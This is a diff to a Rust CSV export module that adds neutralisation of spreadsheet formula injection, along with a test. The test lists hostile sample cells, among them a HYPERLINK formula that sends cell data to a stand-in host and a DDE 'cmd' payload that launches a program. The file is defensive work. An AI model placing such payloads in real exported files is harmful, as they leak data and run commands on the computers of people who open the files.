@@ -1,5 +1,15 @@
 //! CSV for flat report rows, written from each row's serde (JSON) form so the two can't disagree:
 //! numbers in the same shortest round-trip notation, `null` as an empty field, RFC 4180 quoting.
+//!
+//! Every text cell is neutralised against formula injection as OWASP's "CSV Injection" page
+//! advises: a text that begins with `=`, `+`, `-`, `@`, a tab or a carriage return (which Excel,
+//! LibreOffice and Sheets may run as a formula: `=HYPERLINK(...)`, `+cmd|...`, `-1+1`, `@SUM(1)`)
+//! is written with a single quote in front and inside double quotes, so a spreadsheet shows it as
+//! text. Which cells are text is decided by the column's type, not by looking at the value: a
+//! field that serialises as a JSON number (a count, a rate, a difference of minutes, which can be
+//! negative) is data and is written as a bare number, so `-5` stays a number a sum can use; a
+//! field that serialises as a JSON string (a name, a commissioner, a period) is text, and a name
+//! typed as `-5` is neutralised like any other.
 
 use serde::Serialize;
 use serde_json::Value;
@@ -19,7 +29,7 @@ pub fn to_csv<T: CsvRow>(rows: &[T]) -> Result<String, serde_json::Error> {
             &mut out,
             T::COLUMNS.iter().map(|c| match value.get(*c) {
                 None | Some(Value::Null) => String::new(),
-                Some(Value::String(s)) => s.clone(),
+                Some(Value::String(s)) => text_cell(s),
                 Some(other) => other.to_string(),
             }),
         );
@@ -27,12 +37,27 @@ pub fn to_csv<T: CsvRow>(rows: &[T]) -> Result<String, serde_json::Error> {
     Ok(out)
 }
 
+/// The characters that make a spreadsheet read a cell as a formula (OWASP).
+const FORMULA_STARTS: &[char] = &['=', '+', '-', '@', '\t', '\r'];
+
+/// A text cell's content, with a leading single quote if it would otherwise start a formula.
+/// (The quoting that keeps it one field is [`push_line`]'s: a cell starting with `'` is always
+/// quoted.)
+pub fn text_cell(text: &str) -> String {
+    if text.starts_with(FORMULA_STARTS) {
+        format!("'{text}")
+    } else {
+        text.to_string()
+    }
+}
+
 fn push_line(out: &mut String, fields: impl Iterator<Item = String>) {
     for (n, field) in fields.enumerate() {
         if n > 0 {
             out.push(',');
         }
-        if field.contains([',', '"', '\n', '\r']) {
+        // A neutralised cell is quoted too (OWASP), whether or not it has a comma or a quote.
+        if field.contains([',', '"', '\n', '\r']) || field.starts_with('\'') {
             out.push('"');
             out.push_str(&field.replace('"', "\"\""));
             out.push('"');
@@ -93,7 +118,7 @@ pub fn assert_csv_matches_json<T: CsvRow>(csv_text: &str, rows: &[T]) {
         for (column, field) in T::COLUMNS.iter().zip(line) {
             match &object[*column] {
                 Value::Null => assert_eq!(field, "", "{column}"),
-                Value::String(s) => assert_eq!(field, s, "{column}"),
+                Value::String(s) => assert_eq!(field, &text_cell(s), "{column}"),
                 Value::Bool(b) => assert_eq!(field.parse::<bool>().ok(), Some(*b), "{column}"),
                 Value::Number(n) => {
                     let parsed: f64 = field.parse().unwrap_or(f64::NAN);
@@ -143,6 +168,48 @@ mod tests {
         assert_eq!(parsed[1][0], "Borough of \"North\", East");
         assert_eq!(parsed[2], vec!["line\nbreak", "0", ""]);
         assert_eq!(parsed[1][2].parse::<f64>().ok(), Some(100.0 / 3.0));
+        assert_csv_matches_json(&text, &rows);
+        Ok(())
+    }
+
+    #[test]
+    fn text_that_would_start_a_formula_is_quoted_text_and_numbers_stay_numbers(
+    ) -> Result<(), serde_json::Error> {
+        let hostile = [
+            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
+            "+cmd|' /C calc'!A0",
+            "-1+1",
+            "@SUM(1)",
+            "\t=1+2",
+            "\r=1+2",
+            "-5",
+        ];
+        let rows: Vec<Row> = hostile
+            .iter()
+            .map(|name| Row {
+                name: name.to_string(),
+                rate: Some(-2.5),
+                count: 7,
+            })
+            .collect();
+        let text = to_csv(&rows)?;
+        let lines: Vec<&str> = text.split("\r\n").collect();
+        assert_eq!(lines.len(), hostile.len() + 2, "header, rows, and the empty tail");
+        for line in &lines[1..=hostile.len()] {
+            // The raw line: the cell opens with a double quote then a single quote, so no
+            // spreadsheet sees a formula, and the numbers after it are bare.
+            assert!(line.starts_with("\"'"), "{line:?}");
+            assert!(line.ends_with(",7,-2.5"), "{line:?}");
+            assert!(!line.starts_with(FORMULA_STARTS), "{line:?}");
+        }
+        let parsed = parse(&text);
+        for (name, fields) in hostile.iter().zip(&parsed[1..]) {
+            assert_eq!(fields[0], format!("'{name}"));
+            assert_eq!(fields[2].parse::<f64>().ok(), Some(-2.5));
+        }
+        // Harmless text is written as before.
+        assert_eq!(text_cell("North Borough"), "North Borough");
+        assert_eq!(text_cell("2026-W05"), "2026-W05");
         assert_csv_matches_json(&text, &rows);
         Ok(())
     }
